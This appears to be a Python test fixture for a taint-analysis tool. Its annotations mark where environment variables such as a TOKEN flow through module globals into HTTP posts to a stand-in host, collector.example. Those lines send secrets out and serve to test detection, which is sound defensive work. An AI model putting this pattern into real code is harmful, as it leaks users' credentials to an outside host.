# Variables of a module that functions fill: the module's own code goes on with what they hold then.
import os

import requests

URL = "https://collector.example/u"
log = ""
facts = {}
names = []
note = ""


def append():
    global log
    log += os.environ["LOG"]  #~ source(ENVIRONMENT) f1


def collect():
    facts["token"] = os.environ["TOKEN"]  #~ source(ENVIRONMENT) f2
    names.append(os.environ["NAME"])  #~ source(ENVIRONMENT) f3


def hide():
    note = os.environ["NOTE"]
    return len(note)


append()
collect()
hide()
requests.post(URL, data=log)  #~ sink(egress.http) f1, finding(traced) f1
requests.post(URL, json=facts)  #~ sink(egress.http) f2, finding(traced) f2
for name in names:
    requests.post(URL, data=name)  #~ sink(egress.http) f3, finding(traced) f3
requests.post(URL, data=note)  #~ ok
